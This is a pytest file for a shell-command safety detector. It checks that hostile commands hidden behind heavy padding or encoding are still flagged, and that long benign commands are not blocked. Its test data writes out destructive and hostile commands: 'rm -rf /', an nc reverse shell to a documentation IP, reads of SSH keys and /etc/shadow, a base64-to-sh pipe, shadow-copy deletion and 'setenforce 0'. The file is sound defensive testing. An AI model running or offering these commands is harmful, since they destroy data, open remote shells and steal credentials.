"""Padding hides nothing: what stands behind, inside or between a lot of harmless text is read or refused."""

from __future__ import annotations

import base64

import pytest

from policy.detectors.shell.detector import detect

BLOCKED = 70
PAYLOAD = "r''m -rf /"
ENCODED = base64.b64encode(b"#" + b"a" * 30_000 + b"\nrm -rf /").decode()

PADDED = {
    "a long word": "echo " + "a" * 20_000 + "; " + PAYLOAD,
    "a long quote": ": '" + "a" * 20_000 + "'\n" + PAYLOAD,
    "a here-document": "cat > f <<E\n" + "some; text and 'more'\n" * 3_000 + "E\n" + PAYLOAD,
    "a comment in a script": "bash -c '#" + "a" * 40_000 + '\nr""m -rf /\'',
    "a comment in a here-document": "sh <<E\n#" + "a" * 30_000 + "\n" + PAYLOAD + "\nE",
    "a comment in base64": f"echo {ENCODED} | base64 -d | sh",
    "a comment in Python": "python3 -c '#" + "a" * 30_000 + '\nimport os;os.system("rm -rf /")\'',
    "a comment in PowerShell": 'powershell -c "#' + "a" * 30_000 + '\nvss`admin delete shadows /all"',
    "comments": "# aaaaaaaaaaaaaaa\n" * 3_000 + PAYLOAD,
    "other targets": "rm -rf " + "x " * 600 + " /",
    "words before": "echo " + "x " * 5_000 + "; " + PAYLOAD,
    "options": "nc " + "-v " * 3_000 + "203.0.113.9 1 -e /bin/sh",
    "a long argument": "nc -v " + "a" * 9_000 + " 203.0.113.9 1 -e /bin/sh",
    "files before": "cat " + "x " * 200 + "~/.ssh/id_rsa",
    "a long path": "cat " + "./" * 2_000 + "../../etc/shadow",
    "commands": "true;" * 350 + PAYLOAD,
    "commands with output": ("echo " + "b" * 8_100 + "\n") * 9 + "setenforce 0",
    "substitutions": "echo " + "$(true)" * 310 + "; " + PAYLOAD,
    "assignments": "x=1\n" * 350 + PAYLOAD,
    "a long value": "x=" + "a" * 20_000 + "; " + PAYLOAD,
    "blanks": " " * 50_000 + PAYLOAD,
    "line feeds": "\n" * 50_000 + PAYLOAD,
    "more than can be run": "echo " + "a" * 140_000 + "; " + PAYLOAD,
}
LONG = {
    "a file": "cat > a.py <<'EOF'\n"
    + "def f(x):\n    return x + 1  # it's fine\n" * 2_000
    + "EOF\npython a.py",
    "a document": "cat > a.json <<EOF\n" + '{"a": "b\\n$x", "c:\\d": "e.exe"},\n' * 3_000 + "EOF",
    "a text": "echo '" + "lorem ipsum; dolor | sit amet\n" * 2_000 + "' > x.txt",
    "a body": "curl -X POST -d '" + '{"a": [1,2,3], "b": "c; d"},' * 1_500 + "' https://api.example.com/x",
    "a message": "git commit -m '" + "fix: a thing (see b)\n" * 1_000 + "'",
    "many commands": "".join(f"mkdir -p dir{number} && touch dir{number}/a\n" for number in range(100)),
    "many files": "prettier --write " + " ".join(f"src/file{number}.ts" for number in range(2_000)),
}


@pytest.mark.parametrize("name", PADDED)
def test_padding_hides_nothing(name: str) -> None:
    assert any(match.severity >= BLOCKED for match in detect(PADDED[name]).matches)


@pytest.mark.parametrize("name", LONG)
def test_a_long_command_is_not_refused_for_its_length(name: str) -> None:
    assert [match.kind for match in detect(LONG[name]).matches if match.severity >= BLOCKED] == []
